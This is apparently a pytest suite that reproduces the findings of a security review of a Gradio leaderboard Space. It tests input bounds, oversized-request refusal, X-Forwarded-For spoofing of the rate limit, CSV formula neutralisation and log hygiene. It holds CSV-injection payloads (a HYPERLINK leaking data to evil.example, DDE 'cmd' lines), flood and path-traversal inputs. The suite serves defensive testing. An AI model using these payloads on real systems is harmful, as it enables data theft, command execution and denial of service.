"""Findings of the security review, each reproduced: what a hostile visitor can send the Space.

1. CPU through the search box, and request bodies of any size: every event bounds its inputs
   before any work, and a body that is not an upload is refused (413) over MAX_REQUEST_BYTES.
3. The score limit's client address: every X-Forwarded-For line, the rightmost public address,
   LEADERBOARD_TRUSTED_PROXY_HOPS, IPv6 clients grouped by /48 (by /64 before issue 30).
4. Formulas in the CSV export are neutralised; the JSON export keeps the raw values.
6. Gradio's monitoring dashboard is off.
9. A payload Gradio refuses before the handler leaves one short line in the log, not a
   traceback echoing it; an error of the app's own code still leaves its traceback.

The real-server tests share one Space-like server (SPACE_ID set, a score limit of 2).
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from starlette.requests import Request

import app
import errors
import evaluator
import guard
import ledger
import spec
from guard.clients import SCORE_IPV6_PREFIX
from tests.support.app_server import ROOT, AppServer
from tests.support.gradio_http import GradioHTTP, PageEvent, file_data
from tests.support.procs import ServerProcess
from web.board import chart_handlers
from web.board import export as board_export
from web.board import filters as board_filters
from web.board import rows as board_view
from web.board.layout import board_layout

BENCH = spec.load_benchmark("egomemreason")
TRACK = BENCH.track()
KEY = evaluator.load_answer_key(TRACK, BENCH.demo_key(TRACK).read_bytes())
SAMPLE = (BENCH.demo_dir / "sample_submission.json").read_bytes()
RESULT = evaluator.score(KEY, SAMPLE)
SCORE_LIMIT = 2
HOPS_VAR = "LEADERBOARD_TRUSTED_PROXY_HOPS"

#: What a spreadsheet would run as a formula, each in a field the record schema accepts.
FORMULAS = {
    "team_name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "method_name": "=cmd|' /C calc'!A0",
    "model_size": "-2+3",
    "method_description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "+1+2",
}


def _record(method: str, **fields: Any) -> ledger.Record:
    """A re-scored record of the sample submission's numbers, valid under the schema."""
    values: dict[str, Any] = {
        "team_name": "Team " + method,
        "model_size": "7B",
        "uses_external": False,
        "uses_frames": "frames-only",
        **fields,
    }
    return ledger.rescored_record(
        RESULT,
        BENCH,
        TRACK,
        method_name=method,
        record_id=uuid.uuid5(uuid.NAMESPACE_URL, method),
        created_at=datetime(2026, 9, 1, tzinfo=UTC),
        **values,
    )


FORMULA_RECORD = _record(
    FORMULAS["method_name"], **{k: v for k, v in FORMULAS.items() if k != "method_name"}
)
PLAIN_RECORD = _record("Plain method", note="an ordinary note")


# --- 1. every event bounds what it accepts -----------------------------------------------------


DEFAULTS: dict[str, Any] = {
    "search": "",
    "sources": [],
    "external": [],
    "inputs": [],
    "sizes": [],
}  # as the page starts: nothing ticked, any row


def _filter(**changes: Any) -> board_filters.BoardFilter:
    values = {**DEFAULTS, **changes}
    return board_filters.board_filter(
        values["search"],
        values["sources"],
        values["external"],
        values["inputs"],
        values["sizes"],
        BENCH,
    )


def test_ordinary_filters_pass_the_checks_unchanged() -> None:
    assert _filter() == board_filters.BoardFilter()
    longest = " ".join(["w"] * board_filters.MAX_SEARCH_WORDS)
    assert _filter(search=longest).search == longest
    assert _filter(search=None, sources=None, sizes=None, external=None).sources == ()
    chosen = _filter(search="Qwen 7B", sources=["Paper-reported"], inputs=["Frames only"])
    assert chosen == board_filters.BoardFilter(
        "Qwen 7B", ("Paper-reported",), (), ("Frames only",), ()
    )


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        (
            {"search": "x" * (board_filters.MAX_SEARCH_CHARS + 1)},
            [
                f"{board_filters.MAX_SEARCH_CHARS + 1} characters",
                f"at most {board_filters.MAX_SEARCH_CHARS}",
            ],
        ),
        (
            {"search": " ".join(["w"] * (board_filters.MAX_SEARCH_WORDS + 1))},
            [
                f"{board_filters.MAX_SEARCH_WORDS + 1} words",
                f"at most {board_filters.MAX_SEARCH_WORDS} words",
            ],
        ),
        ({"search": " ".join(f"w{i}" for i in range(60_000))}, ["characters", "at most"]),
        ({"search": {"a": 1}}, ["search", "text"]),
        ({"sources": ["Paper-reported", "Paper-reported", "Re-scored"]}, ["Source", "at most 2"]),
        ({"sources": ["Paper-reported"] * 100_000}, ["Source", "100000 values"]),
        ({"sources": ["Nope"]}, ["Source", "'Nope'", "'Re-scored', 'Paper-reported'"]),
        ({"sizes": [["< 10B"]]}, ["Model size", "['< 10B']"]),
        ({"external": "Yes"}, ["Uses external data", "a list"]),
        ({"inputs": ["y" * 100_000]}, ["Video input", "yyyy…"]),
    ],
)
def test_filters_that_no_page_can_send_are_refused_before_any_work(
    changes: dict[str, Any], words: list[str]
) -> None:
    with pytest.raises(errors.BadInput) as refused:
        _filter(**changes)
    message = str(refused.value)
    assert all(word in message for word in words), message
    assert len(message) < 400, "a refusal does not echo what it refused"


def test_the_search_box_cannot_take_more_than_the_check_allows(tmp_path: Path) -> None:
    demo = app.build_demo(
        BENCH,
        TRACK,
        lambda: ledger.KeyStatus(KEY, "x", True, None),
        ledger.BoardCache(ledger.LocalStore(tmp_path), BENCH, TRACK),
        guard.ScoreLimiter(guard.ScoreLimits()),
    )
    config = demo.get_config_file()
    search = next(
        c for c in config["components"] if c.get("props", {}).get("elem_id") == "board-search"
    )
    assert search["props"]["max_length"] == board_filters.MAX_SEARCH_CHARS
    picks = next(
        c for c in config["components"] if c.get("props", {}).get("elem_id") == "chart-picks"
    )
    assert picks["props"]["max_choices"] == chart_handlers.MAX_PICKS


# --- 3. the client address behind the proxy -----------------------------------------------------


def _request(forwarded: Sequence[str], peer: str = "10.16.4.2") -> gr.Request:
    """A gr.Request around a real Starlette request carrying these X-Forwarded-For lines."""
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/gradio_api/call/score",
        "query_string": b"",
        "client": (peer, 43210),
        "headers": [
            (b"host", b"space.example"),
            *((b"x-forwarded-for", line.encode()) for line in forwarded),
        ],
    }
    return gr.Request(request=Request(scope))


@pytest.mark.parametrize(
    ("forwarded", "hops", "client"),
    [
        (["198.51.100.7"], 0, "198.51.100.7"),
        # the visitor forges the left part; the proxy appends the address it saw
        (["1.1.1.1, 8.8.8.8, 198.51.100.7"], 0, "198.51.100.7"),
        # the visitor's own header line first, the proxy's line after it
        (["1.1.1.1", "198.51.100.7"], 0, "198.51.100.7"),
        (["1.1.1.1, 2.2.2.2", "198.51.100.7, 10.0.0.3"], 0, "198.51.100.7"),
        # the platform's internal hops after the visitor
        (
            [
                "198.51.100.7, 10.1.2.3, 172.16.0.1, 192.168.1.1, 127.0.0.1, 169.254.1.1, "
                "100.64.0.1, fd00::1, fe80::1, ::1, 0.0.0.0"
            ],
            0,
            "198.51.100.7",
        ),
        # garbage entries are no address
        (
            ["198.51.100.7, unknown, , not-an-ip, 999.1.1.1, _hidden, 1.2.3.4.5, [::1"],
            0,
            "198.51.100.7",
        ),
        (["198.51.100.7:51234"], 0, "198.51.100.7"),
        (['"198.51.100.7"'], 0, "198.51.100.7"),
        (["[2001:db8:1:2::7]:443"], 0, "2001:db8:1:2::/64"),
        (["2001:db8:1:2:aaaa:bbbb:cccc:dddd"], 0, "2001:db8:1:2::/64"),
        (["::ffff:198.51.100.7"], 0, "198.51.100.7"),
        # trusted hops: public proxies in front of the Space's own, which append too
        (["1.1.1.1, 198.51.100.7, 203.0.113.9, 10.0.0.1"], 1, "198.51.100.7"),
        (["1.1.1.1, 198.51.100.7", "203.0.113.9, 203.0.113.10"], 2, "198.51.100.7"),
    ],
)
def test_the_client_is_the_rightmost_public_address_past_the_trusted_hops(
    forwarded: list[str], hops: int, client: str
) -> None:
    assert guard.client_address(_request(forwarded), True, hops) == client


@pytest.mark.parametrize(
    ("forwarded", "hops"),
    [
        ([], 0),
        (["10.0.0.1, 192.168.0.1"], 0),
        (["garbage, ,"], 0),
        (["198.51.100.7"], 1),  # the only public entry is the trusted proxy's own
    ],
)
def test_without_a_usable_entry_the_peer_address_is_the_client(
    forwarded: list[str], hops: int
) -> None:
    # On a Space that is the platform's internal address: all such requests share one limit.
    assert guard.client_address(_request(forwarded), True, hops) == "10.16.4.2"


def test_off_a_space_the_header_is_ignored_and_ipv6_peers_share_their_64() -> None:
    assert guard.client_address(_request(["198.51.100.7"], peer="127.0.0.1"), False) == "127.0.0.1"
    assert guard.client_address(_request([], peer="2001:db8:5:6::1"), False) == "2001:db8:5:6::/64"
    assert guard.client_address(None, True) == "unknown"


def test_ipv6_visitors_share_a_score_limit_per_48_and_only_per_48() -> None:
    """Per /64 before issue 30 (a site's /48 held 65,536 allowances); the shares still count a
    /64 (tests/guard/test_clients.py)."""
    limiter = guard.ScoreLimiter(guard.ScoreLimits(limit=1, window_s=3600, on_space=True))

    def acquire(address: str) -> bool:
        request = _request([f"1.1.1.1, {address}"])
        try:
            limiter.acquire(guard.client_address(request, True, 0, SCORE_IPV6_PREFIX))
        except errors.RateLimited:
            return False
        return True

    assert acquire("2001:db8:1:2::1")
    assert not acquire("2001:db8:1:2:ffff:ffff:ffff:fffe")  # the same /64
    assert not acquire("2001:db8:1:3::1")  # the same /48
    assert acquire("2001:db8:2:3::1")  # the next /48


def test_the_hop_summary_counts_entries_and_names_no_address() -> None:
    request = _request(["1.1.1.1, garbage", "198.51.100.7, 10.0.0.3"])
    summary = guard.forwarded_summary(request)
    assert "2 X-Forwarded-For lines" in summary and "4 entries" in summary
    assert "(public, garbage, public, internal)" in summary
    assert summary.endswith("peer address: internal")
    assert not re.search(r"\d+\.\d+\.", summary), summary


@pytest.mark.parametrize(
    ("raw", "hops"), [(None, 0), ("", 0), ("  ", 0), ("0", 0), ("2", 2), (" 3 ", 3)]
)
def test_trusted_hops_come_from_the_environment(raw: str | None, hops: int) -> None:
    env = {} if raw is None else {HOPS_VAR: raw}
    config = ledger.load_config({"SPACE_ID": "x/y", **env})
    assert config.trusted_proxy_hops == hops
    limits = guard.score_limits(config)
    assert limits == guard.ScoreLimits(ledger.SCORE_LIMIT, ledger.SCORE_WINDOW_S, True, hops)


@pytest.mark.parametrize("raw", ["-1", "1.5", "two", "1e3", "０", "²", "0x1", "101"])
def test_a_bad_trusted_hops_value_names_the_variable(raw: str) -> None:
    expected = f"{HOPS_VAR} must be a whole number from 0 to 100, in digits; found {raw!r}"
    with pytest.raises(ledger.ConfigError, match=re.escape(expected)):
        ledger.load_config({HOPS_VAR: raw})


@pytest.mark.server
def test_a_bad_trusted_hops_value_stops_the_boot_with_one_line() -> None:
    clean = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("LEADERBOARD_", "EGOMEM_", "HF_TOKEN", "SPACE_"))
    }
    done = subprocess.run(
        [sys.executable, "app.py"],
        cwd=ROOT,
        env={**clean, HOPS_VAR: "many", "SPACE_ID": "x/y"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {HOPS_VAR} must be"), lines


def _in_process(board: Path, limits: guard.ScoreLimits) -> Iterator[TestClient]:
    track = BENCH.track()
    demo = app.build_demo(
        BENCH,
        track,
        lambda: ledger.KeyStatus(KEY, "demo", True, None),
        ledger.BoardCache(ledger.LocalStore(board), BENCH, track),
        guard.ScoreLimiter(limits),
    )
    with TestClient(gr.mount_gradio_app(FastAPI(), demo, path="/")) as http:
        yield http


def _score_in_process(http: TestClient, headers: list[tuple[str, str]]) -> int:
    path = http.post("/gradio_api/upload", files={"files": ("s.json", SAMPLE)}).json()[0]
    response = http.post(
        "/gradio_api/run/score",
        headers=headers,
        json={"data": [{"path": path, "meta": {"_type": "gradio.FileData"}}]},
    )
    return response.status_code


def test_the_hops_are_logged_once_without_addresses(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger=app.app_logger(BENCH).name)
    limits = guard.ScoreLimits(limit=5, window_s=3600, on_space=True)
    for http in _in_process(tmp_path, limits):
        lines = [
            ("X-Forwarded-For", "192.0.2.1, 198.51.100.33"),
            ("X-Forwarded-For", "203.0.113.44"),
        ]
        assert _score_in_process(http, lines) == 200
        assert _score_in_process(http, lines[:1]) == 200
    logged = [r.getMessage() for r in caplog.records if "X-Forwarded-For" in r.getMessage()]
    assert len(logged) == 1, logged
    assert "2 X-Forwarded-For lines" in logged[0] and "3 entries" in logged[0]
    assert not any(a in caplog.text for a in ("192.0.2.1", "198.51.100.33", "203.0.113.44"))


def test_a_second_header_line_does_not_escape_the_limit_in_process(tmp_path: Path) -> None:
    limits = guard.ScoreLimits(limit=1, window_s=3600, on_space=True)
    for http in _in_process(tmp_path, limits):
        real = ("X-Forwarded-For", "198.51.100.77")
        assert _score_in_process(http, [("X-Forwarded-For", "192.0.2.1"), real]) == 200
        assert _score_in_process(http, [("X-Forwarded-For", "192.0.2.2"), real]) != 200
        assert _score_in_process(http, [("X-Forwarded-For", "192.0.2.3")]) == 200


# --- 4. the CSV export neutralises formulas --------------------------------------------------


def test_the_board_rows_are_neutralised_in_csv_only() -> None:
    records = [FORMULA_RECORD, PLAIN_RECORD]
    frame = board_view.board_frame(records, BENCH, TRACK)
    layout = board_layout(BENCH, TRACK)
    text = board_export.board_csv(frame, layout, records).decode("utf-8-sig")
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    formula = next(r for r in parsed if r["Record id"] == str(FORMULA_RECORD.id))
    # The CSV names its columns as the board does (it has no description column).
    shown = {"team_name": "Team", "method_name": "Method", "model_size": "Size", "note": "Note"}
    assert {f: formula[c] for f, c in shown.items()} == {f: "'" + FORMULAS[f] for f in shown}
    assert formula["Overall"] == f"{RESULT.metrics['overall']:.1f}"  # a number, as shown
    plain = next(r for r in parsed if r["Record id"] == str(PLAIN_RECORD.id))
    assert plain["Method"] == "Plain method" and plain["Note"] == "an ordinary note"
    rows = board_export.export_rows(frame, records, TRACK)
    raw = next(r for r in rows if r["id"] == str(FORMULA_RECORD.id))
    assert {f: raw[f] for f in FORMULAS} == FORMULAS  # the JSON export and the API


# --- the real server ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def board_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("board")
    store = ledger.LocalStore(folder)
    for record in (
        FORMULA_RECORD,
        PLAIN_RECORD,
        _record("Qwen-like 7B"),
        _record("Another 72B", model_size="72B"),
    ):
        store.write(record, "test")
    return folder


@pytest.fixture(scope="module")
def server(board_dir: Path) -> Iterator[AppServer]:
    env = {
        "SPACE_ID": "hardening/test",
        "LEADERBOARD_SCORE_LIMIT": str(SCORE_LIMIT),
        "LEADERBOARD_RECORDS_DIR": str(board_dir),
    }
    with AppServer(env=env) as running:
        yield running


@pytest.fixture(scope="module")
def board_load(server: AppServer) -> PageEvent:
    """The board's page-load event: what a fresh page runs to show the table."""
    with GradioHTTP(server.url) as http:
        return http.page_event("board-table")


@pytest.fixture(scope="module")
def search_event(server: AppServer) -> PageEvent:
    """The board's search event: what a visitor's search (and filters, sort, track) send, the
    board's inputs in the page's order (the landing takes none: it reads the address)."""
    with GradioHTTP(server.url) as http:
        return http.page_event("board-table", trigger="change")


def _timed_page_load(url: str, event: PageEvent) -> float:
    with GradioHTTP(url) as http:
        start = time.perf_counter()
        http.page_output(event)
        return time.perf_counter() - start


@pytest.mark.server
def test_a_search_flood_does_not_slow_an_ordinary_page_load(
    server: AppServer, board_load: PageEvent, search_event: PageEvent
) -> None:
    baseline = sorted(_timed_page_load(server.url, board_load) for _ in range(5))[2]
    flood = " ".join(f"w{i}" for i in range(5_000))  # ~1 s of matching each, unbounded
    outcomes: list[str] = []

    def attack() -> None:
        with GradioHTTP(server.url, timeout_s=90) as http:
            outcomes.append(
                http.queue_call(search_event.fn_index, [flood, *search_event.defaults[1:]]).message
            )

    attackers = [threading.Thread(target=attack) for _ in range(8)]
    for thread in attackers:
        thread.start()
    time.sleep(0.5)  # the flood is queued or running
    loaded = _timed_page_load(server.url, board_load)
    for thread in attackers:
        thread.join(timeout=120)
    # Unbounded, this flood made the load ~115x slower; 20x leaves room for a busy machine.
    assert loaded < 20 * baseline, f"{loaded:.3f} s under the flood, {baseline:.3f} s without"
    assert len(outcomes) == 8 and all("at most" in m for m in outcomes), outcomes[:1]


def _raw_post(url: str, path: str, body_bytes: int, chunked: bool) -> tuple[int, bytes]:
    """POST a queue join of ``body_bytes`` on a raw socket, framed by a Content-Length or
    chunked; stop sending once the server answers. Returns (body bytes sent, the answer's start).
    """
    host, port = url.removeprefix("http://").split(":")
    prefix = b'{"fn_index": 0, "session_hash": "flood", "data": ["'
    suffix = b'"]}'
    padding = body_bytes - len(prefix) - len(suffix)
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {body_bytes}"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json"
        f"\r\n{framing}\r\nConnection: close\r\n\r\n"
    ).encode()

    def pieces() -> Iterator[bytes]:
        yield prefix
        for offset in range(0, padding, 65536):
            yield b"x" * min(65536, padding - offset)
        yield suffix

    def framed(piece: bytes) -> bytes:
        return f"{len(piece):x}\r\n".encode() + piece + b"\r\n" if chunked else piece

    sent, answer, pending, ended = 0, b"", b"", False
    body = pieces()
    start = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
        sock.sendall(head)
        sock.setblocking(False)
        while time.monotonic() - start < 60:
            try:
                answer += sock.recv(4096)
                if answer:
                    break
            except BlockingIOError:
                pass
            if not pending:
                piece = next(body, None)
                if piece is not None:
                    sent += len(piece)
                    pending = framed(piece)
                elif chunked and not ended:
                    pending, ended = b"0\r\n\r\n", True
                else:  # all sent: wait for the answer
                    time.sleep(0.001)
                    continue
            try:
                pending = pending[sock.send(pending) :]
            except BlockingIOError:
                time.sleep(0.001)
            except (BrokenPipeError, ConnectionResetError):
                break
        sock.setblocking(True)
        sock.settimeout(10)
        try:
            while b"\r\n" not in answer:
                more = sock.recv(4096)
                if not more:
                    break
                answer += more
        except (TimeoutError, ConnectionResetError):
            pass
    return sent, answer[:200]


@pytest.mark.server
@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_a_20_mb_queue_join_is_refused_with_413(
    server: AppServer, board_load: PageEvent, chunked: bool
) -> None:
    sent, answer = _raw_post(server.url, "/gradio_api/queue/join", 20 * 2**20, chunked)
    assert answer.startswith(b"HTTP/1.1 413"), answer
    assert sent < 16 * 2**20, f"the server read {sent / 2**20:.0f} MB before refusing"
    with httpx.Client(base_url=server.url, timeout=30) as http:
        big = http.post(
            "/gradio_api/queue/join",
            content=b'{"data": ["' + b"x" * (guard.MAX_REQUEST_BYTES + 1) + b'"]}',
            headers={"Content-Type": "application/json"},
        )
        assert big.status_code == 413 and "at most" in big.text
    # Ordinary requests still pass: a page load through the queue, and a 4 MB upload.
    with GradioHTTP(server.url) as http:
        assert http.page_output(board_load) is not None
        upload = http.upload_response("four.json", b"[" + b" " * (4 * 2**20) + b"]")
        assert upload.status_code == 200, upload.text[:200]


@pytest.mark.server
def test_an_upload_request_carries_one_file_of_at_most_5_mb(server: AppServer) -> None:
    four_mb = b"[" + b" " * (4 * 2**20) + b"]"
    before = sum(p.stat().st_size for p in server.temp_dir.rglob("*") if p.is_file())
    with httpx.Client(base_url=server.url, timeout=60) as http:
        # Gradio bounds each file, not how many one request carries: 6 x 4 MB went to disk.
        many = http.post(
            "/gradio_api/upload",
            files=[
                ("files", (f"f{i}.json", four_mb.replace(b" ", str(i).encode(), 1)))
                for i in range(6)
            ],
        )
        assert many.status_code == 413 and "one file of at most 5mb" in many.text, many.text
        chunked = http.post(
            "/gradio_api/upload",
            content=iter([b"--b\r\n"]),
            headers={"Content-Type": "multipart/form-data; boundary=b"},
        )
        assert chunked.status_code == 411, chunked.text
        just_over = http.post(
            "/gradio_api/upload",
            files={"files": ("big.json", b"[" + b" " * guard.MAX_UPLOAD_BYTES + b"]")},
        )
        assert just_over.status_code == 413 and "maximum allowed size" in just_over.text
    after = sum(p.stat().st_size for p in server.temp_dir.rglob("*") if p.is_file())
    assert after - before < 2**20


@pytest.mark.server
def test_the_monitoring_dashboard_is_off(server: AppServer) -> None:
    with httpx.Client(base_url=server.url, timeout=10) as http:
        for route in ("/monitoring", "/monitoring/summary", "/monitoring/anykey"):
            response = http.get(route)
            assert response.status_code in (403, 404), (route, response.status_code)
            assert "Monitoring URL" not in response.text and "functions" not in response.text
    time.sleep(0.2)
    assert "monitoring" not in server.log().lower()


def _call(
    url: str, api_name: str, data: list[Any], headers: list[tuple[str, str]]
) -> tuple[str, str]:
    """Gradio's two-step HTTP API with these header lines: (complete|error, the stream)."""
    with httpx.Client(base_url=url, timeout=30) as http:
        event = http.post(f"/gradio_api/call/{api_name}", json={"data": data}, headers=headers)
        event.raise_for_status()
        stream = http.get(f"/gradio_api/call/{api_name}/{event.json()['event_id']}").text
    return ("complete" if "event: complete" in stream else "error"), stream


@pytest.mark.server
def test_two_forwarded_for_lines_do_not_escape_the_limit_on_a_real_server(
    server: AppServer,
) -> None:
    with GradioHTTP(server.url) as http:
        data = [file_data(http.upload("s.json", SAMPLE))]
    real = ("X-Forwarded-For", "198.51.100.201")  # what the proxy would add after the visitor's

    def forged(i: int) -> list[tuple[str, str]]:
        return [("X-Forwarded-For", f"203.0.113.{i}"), real]

    reached = [_call(server.url, "score", data, forged(i))[0] for i in range(SCORE_LIMIT)]
    assert reached == ["complete"] * SCORE_LIMIT
    after = [_call(server.url, "score", data, forged(100 + i)) for i in range(3)]
    assert [kind for kind, _ in after] == ["error"] * 3, "a forged first line escaped the limit"
    assert all(f"limited to {SCORE_LIMIT} files" in stream for _, stream in after)
    # Another visitor behind the same proxy is not affected.
    other = [("X-Forwarded-For", "203.0.113.1"), ("X-Forwarded-For", "198.51.100.202")]
    assert _call(server.url, "score", data, other)[0] == "complete"
    log = server.log()
    assert log.count("X-Forwarded-For") == 1 and "2 X-Forwarded-For lines" in log
    assert "198.51.100.20" not in log and "203.0.113." not in log


MARK = "PAYLOAD-ECHO-"
BIG = (MARK * (100_000 // len(MARK) + 1))[:100_000]
MALFORMED: list[Any] = [
    BIG,  # a bare string for the File input
    {"path": BIG},  # a dict without meta
    {"path": "/" + BIG, "meta": {"_type": "gradio.FileData"}},  # outside the upload folder
    {"path": "/etc/" + "/".join([MARK] * 250), "meta": {"_type": "gradio.FileData"}},
    {"path": 12345, "orig_name": BIG, "meta": {"_type": "gradio.FileData"}},
]


@pytest.mark.server
def test_malformed_payloads_leave_one_short_line_each(
    server: AppServer, search_event: PageEvent
) -> None:
    before = len(server.log())
    board_payloads = [
        [*search_event.defaults[:1], [BIG], *search_event.defaults[2:]],  # a choice no page offers
        [BIG],  # too few inputs
    ]
    with GradioHTTP(server.url) as http:
        for i in range(50):
            kind = i % (len(MALFORMED) + len(board_payloads))
            if kind < len(MALFORMED):
                outcome = http.call("score", [MALFORMED[kind]])
            else:
                data = board_payloads[kind - len(MALFORMED)]
                outcome = http.queue_call(search_event.fn_index, data)
            assert outcome.kind == "error", (i, outcome.data)
    time.sleep(0.3)
    added = server.log()[before:]
    lines = added.splitlines()
    assert MARK not in added, added[:2000]
    assert len(lines) <= 50, added[:3000]
    assert all(len(line) < 300 for line in lines), max(lines, key=len)[:500]
    assert sum("refused" in line for line in lines) == 50, added[:3000]
    assert "Traceback" not in added


@pytest.mark.server
def test_an_error_of_the_apps_own_code_is_still_logged_with_its_traceback() -> None:
    # python -c: app.main() with board_frame broken, as a bug in the app's own code would be.
    code = (
        "import sys, app\nfrom web.board import handlers\n"
        "def broken(*args, **kwargs):\n"
        "    raise RuntimeError('a deliberate bug in the app')\n"
        "handlers.board_frame = broken\n"
        "sys.exit(app.main())\n"
    )
    with ServerProcess(["-c", code]) as broken, GradioHTTP(broken.url) as http:
        event = http.page_event("board-table")
        assert http.queue_call(event.fn_index, event.defaults).kind == "error"
        time.sleep(0.3)
        log = broken.log()
    assert "RuntimeError: a deliberate bug in the app" in log
    assert f'{ROOT / "web" / "board" / "handlers.py"}", line' in log and "Traceback" in log


@pytest.mark.server
def test_the_board_csv_download_neutralises_formulas_on_a_real_server(
    server: AppServer, board_load: PageEvent
) -> None:
    with GradioHTTP(server.url) as http:
        outcome = http.queue_call(board_load.fn_index, board_load.defaults)
        assert outcome.kind == "complete", outcome.message
        csv_file, json_file = outcome.data[3], outcome.data[4]
        text = http.get(csv_file["url"].removeprefix(server.url)).content.decode("utf-8-sig")
        raw = http.get(json_file["url"].removeprefix(server.url)).json()
    parsed = list(csv.DictReader(io.StringIO(text)))
    formula = next(r for r in parsed if r["Record id"] == str(FORMULA_RECORD.id))
    # The CSV names its columns as the board does (it has no description column).
    shown = {"team_name": "Team", "method_name": "Method", "model_size": "Size", "note": "Note"}
    assert {f: formula[c] for f, c in shown.items()} == {f: "'" + FORMULAS[f] for f in shown}
    assert {
        f: next(r for r in raw if r["id"] == str(FORMULA_RECORD.id))[f] for f in FORMULAS
    } == FORMULAS
